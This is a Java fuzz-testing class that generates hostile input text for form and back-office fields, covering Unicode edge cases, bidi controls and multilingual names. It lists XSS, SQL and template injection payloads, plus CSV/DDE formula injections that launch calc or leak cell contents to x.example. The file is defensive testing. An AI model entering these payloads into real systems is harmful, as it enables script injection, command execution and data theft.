package org.onthaal.base.fuzz;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Generated text for what a person, a paste or a scanner may put into a field: characters
 * of every Unicode general category (lone surrogates, unassigned code points and
 * noncharacters, format and control characters, every kind of white space, marks of every
 * script), bidi controls, joiners, emoji sequences, markup and SQL, short and very long,
 * mixed with names as families write them (so much of it is accepted, too), and for the
 * back office spreadsheet formulas and markup among words. A text comes as its pieces, so
 * {@link Fuzz} can shrink it.
 */
public final class HostileText {

	/**
	 * Code points of each general category ({@link Character#getType}), computed once.
	 */
	private static final int[][] BY_CATEGORY = byCategory();

	/** Categories with at least one code point, every one equally likely. */
	private static final int[] CATEGORIES = java.util.stream.IntStream.range(0, BY_CATEGORY.length)
		.filter(type -> BY_CATEGORY[type].length > 0)
		.toArray();

	private static final int[] LETTERS = { Character.UPPERCASE_LETTER, Character.LOWERCASE_LETTER,
			Character.TITLECASE_LETTER, Character.MODIFIER_LETTER, Character.OTHER_LETTER };

	private static final int[] MARKS = { Character.NON_SPACING_MARK, Character.COMBINING_SPACING_MARK,
			Character.ENCLOSING_MARK };

	/** Names as families write them. */
	static final List<String> NAMES = List.of("Amal", "Zoë", "Zoe\u0308", "Anne-Sophie", "O'Brien", "O’Neill", "مريم",
			"مهر\u200Cنوش", "فرح\u200Cناز", "Олена", "Ayşe", "ሰላም", "क्\u200Dष", "ശ്രീ\u200Cലക്ഷ്മി", "Nguyễn",
			"Nguye\u0302\u0303n", "李小龙", "さくら", "김민준", "ⵜⴰⵎⴰⵣⵉⵖⵜ", "שרה", "Δήμητρα", "Mama2", "J.P.", "ꦱꦶꦠꦶ",
			"𐐔𐐯𐑅𐐨𐑉𐐯𐐻", "𝔄𝔫𝔫𝔞", "Ǆemal", "ﬁona", "Ⅻ", "Ꭰ", "각", "Å", "Ω", "ﾊﾟ");

	/** Hand-picked pieces the categories reach only by chance. */
	static final List<String> HOSTILE = List.of("\u202E", "\u202A", "\u202B", "\u202C", "\u202D", "\u2066", "\u2067",
			"\u2068", "\u2069", "\u200E", "\u200F", "\u061C", "\u200B", "\u200C", "\u200D", "\u2060", "\uFEFF",
			"\u180E", "\u00AD", "\u034F", "\uFFFC", "\uFFFD", "\u0000", "\n", "\r\n", "\t", "\u000B", "\u000C",
			"\u0085", "\u00A0", "\u1680", "\u2000", "\u2007", "\u202F", "\u205F", "\u3000", "\u2028", "\u2029",
			"\u001C", "\u001F", "\u007F", "\u009B", "\uD800", "\uDFFF", "\uDBFF\uDBFF", "\uFDD0", "\uFFFE", "\uFFFF",
			"\uD83F\uDFFE", "\uDBFF\uDFFF", "<b>", "</script>", "<img src=x onerror=alert(1)>", "&amp;", "&#x202E;",
			"' OR 1=1 --", "'; drop table family; --", "\\", "%s", "{0}", "${x}", "\"", "👨\u200D👩\u200D👧",
			"🏳\uFE0F\u200D🌈", "👍🏽", "🇧🇪", "1\uFE0F\u20E3", "❤\uFE0F", "\u0301", "\u0308", "\u0651", "\u094D",
			"\u20DD", "Z\u0335\u0321\u0334\u0327\u0336", "\uE000", "\uDB80\uDC00", "🧑🏿\u200D🦱");

	private static final List<String> PUNCTUATION = List.of(" ", "-", "'", ".", "’", "  ");

	/**
	 * What makes a spreadsheet run a cell as a formula (OWASP, CSV injection), also in
	 * the full-width forms an East Asian keyboard types.
	 */
	static final List<String> FORMULA_STARTS = List.of("=", "+", "-", "@", "\t", "\r", "\uFF1D", "\uFF0B", "\uFF0D",
			"\uFF20");

	/** What follows the start: harmless sums, dynamic data exchange, links that leak. */
	static final List<String> FORMULA_BODIES = List.of("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0",
			"2+3+cmd|' /C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
			"HYPERLINK(\"http://x.example/?\"&A1;\"klik\")", "IMPORTXML(CONCAT(\"http://x.example/?\";A1);\"//a\")",
			"A1", "5", "32 2 123 45 67", "");

	/** What may come before a formula's start and still let it run somewhere. */
	static final List<String> BEFORE_FORMULA = List.of("", "", "", " ", "  ", "\u00A0", "\u3000", "\t", "\n", "\r\n",
			"\u200B", "\uFEFF", "\"", "'", ";");

	/** Markup and separators that break a page, a template or a CSV line. */
	static final List<String> MARKUP = List.of("<b>", "</b>", "</span>", "<script>alert(1)</script>",
			"<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "<!--", "]]>", "&lt;", "&amp;", "&#60;",
			"{{7*7}}", "${7*7}", "#{7*7}", "`", "\"", "\"\"", ";", ",", "\n", "\r", "\r\n", "'");

	private HostileText() {
	}

	/** A nickname as typed or pasted: mostly a few pieces, sometimes hundreds. */
	public static List<String> nickname(Random random) {
		int kind = random.nextInt(18);
		List<String> pieces = new ArrayList<>();
		if (kind < 3) {
			// around the 40-character limit
			int letters = 35 + random.nextInt(11);
			for (int i = 0; i < letters; i++) {
				pieces.add(letter(random));
			}
		}
		else {
			int count = kind == 3 ? 40 + random.nextInt(561) : random.nextInt(9);
			for (int i = 0; i < count; i++) {
				pieces.add(piece(random));
			}
		}
		return pieces;
	}

	/**
	 * What a manager types or pastes into a back-office field others read (a corner's
	 * name, an interest's label, a closure's reason): a spreadsheet formula, markup among
	 * words, or anything a nickname may be.
	 */
	public static List<String> officeText(Random random) {
		List<String> pieces = new ArrayList<>();
		switch (random.nextInt(3)) {
			case 0 -> {
				pieces.add(pick(random, BEFORE_FORMULA));
				pieces.add(pick(random, FORMULA_STARTS));
				pieces.add(pick(random, FORMULA_BODIES));
				for (int i = random.nextInt(3); i > 0; i--) {
					pieces.add(piece(random));
				}
			}
			case 1 -> {
				for (int i = 1 + random.nextInt(8); i > 0; i--) {
					pieces.add(random.nextBoolean() ? pick(random, MARKUP) : piece(random));
				}
			}
			default -> pieces.addAll(nickname(random));
		}
		return pieces;
	}

	/** One piece of a nickname: a name, a letter, something hostile, anything at all. */
	public static String piece(Random random) {
		int roll = random.nextInt(20);
		if (roll < 6) {
			return NAMES.get(random.nextInt(NAMES.size()));
		}
		if (roll < 10) {
			return letter(random);
		}
		if (roll < 13) {
			return HOSTILE.get(random.nextInt(HOSTILE.size()));
		}
		if (roll < 16) {
			return anyCategory(random);
		}
		if (roll < 18) {
			return PUNCTUATION.get(random.nextInt(PUNCTUATION.size()));
		}
		if (roll < 19) {
			return noncharacter(random);
		}
		return Integer.toString(random.nextInt(1000));
	}

	private static String pick(Random random, List<String> choices) {
		return choices.get(random.nextInt(choices.size()));
	}

	/** One character (or lone surrogate) of a general category chosen first. */
	public static String anyCategory(Random random) {
		return ofCategory(random, CATEGORIES[random.nextInt(CATEGORIES.length)]);
	}

	/** A letter of any script, sometimes with a mark on it. */
	public static String letter(Random random) {
		String letter = ofCategory(random, LETTERS[random.nextInt(LETTERS.length)]);
		return random.nextInt(6) == 0 ? letter + ofCategory(random, MARKS[random.nextInt(MARKS.length)]) : letter;
	}

	/** U+FDD0..U+FDEF or one of the last two code points of a plane. */
	public static String noncharacter(Random random) {
		int pick = random.nextInt(32 + 34);
		int cp = pick < 32 ? 0xFDD0 + pick : (pick - 32) / 2 * 0x10000 + 0xFFFE + (pick - 32) % 2;
		return new String(Character.toChars(cp));
	}

	private static String ofCategory(Random random, int type) {
		int[] codePoints = BY_CATEGORY[type];
		return new String(Character.toChars(codePoints[random.nextInt(codePoints.length)]));
	}

	private static int[][] byCategory() {
		int[] counts = new int[Character.FINAL_QUOTE_PUNCTUATION + 1];
		for (int cp = 0; cp <= Character.MAX_CODE_POINT; cp++) {
			counts[Character.getType(cp)]++;
		}
		int[][] all = new int[counts.length][];
		for (int type = 0; type < counts.length; type++) {
			all[type] = new int[counts[type]];
		}
		int[] filled = new int[counts.length];
		for (int cp = 0; cp <= Character.MAX_CODE_POINT; cp++) {
			int type = Character.getType(cp);
			all[type][filled[type]++] = cp;
		}
		return all;
	}

}
